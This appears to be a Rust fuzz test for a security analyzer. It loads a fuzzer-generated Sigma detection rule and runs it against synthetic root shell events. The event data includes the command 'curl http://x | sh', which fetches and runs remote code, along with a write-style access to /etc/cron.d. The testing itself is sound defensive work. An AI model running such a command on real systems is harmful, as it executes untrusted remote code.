//! A Sigma rule that somebody wrote, tried on an event.
#![no_main]

use fvm_analyze::{Analysis, Settings, Sigma};
use fvm_model::Timestamp;
use fvm_model::event::{Args, Event, Kind, Phase, Src, Trust};
use fvm_model::path::Bytes;
use fvm_trace::Integrity;
use libfuzzer_sys::fuzz_target;
use std::path::Path;

fuzz_target!(|text: &str| {
    let mut sigma = Sigma::default();
    sigma.add(Path::new("rule.yml"), text);
    assert_eq!(sigma.loaded + sigma.passed_over.len(), 1);
    let settings = Settings { sigma: Some(sigma), ..Settings::default() };
    let mut analysis = Analysis::new(&settings);
    let bytes = |text: &str| Bytes(text.into());
    for (seq, phase, kind) in
        [(1, Phase::Attempt, Kind::Exec), (2, Phase::Done, Kind::Exec), (3, Phase::Attempt, Kind::Open)]
    {
        let argv = vec![bytes("sh"), bytes("-c"), bytes("curl http://x | sh")];
        analysis.see(&Event {
            ts: Timestamp::default(),
            vm: "vm".into(),
            seq,
            tgid: 2,
            tid: 2,
            ppid: 0,
            sid: 2,
            start_ns: 1,
            uid: 0,
            exe: bytes("/bin/sh"),
            comm: bytes("sh"),
            kind,
            args: Args { path: Some(bytes("/etc/cron.d/x")), argv, flags: Some(1), ..Args::default() },
            src: Src::Seccomp,
            trust: Trust::Usermem,
            phase,
        });
    }
    let _report = analysis.finish(Some(&Integrity { runs: 1, ..Integrity::default() }), false);
});
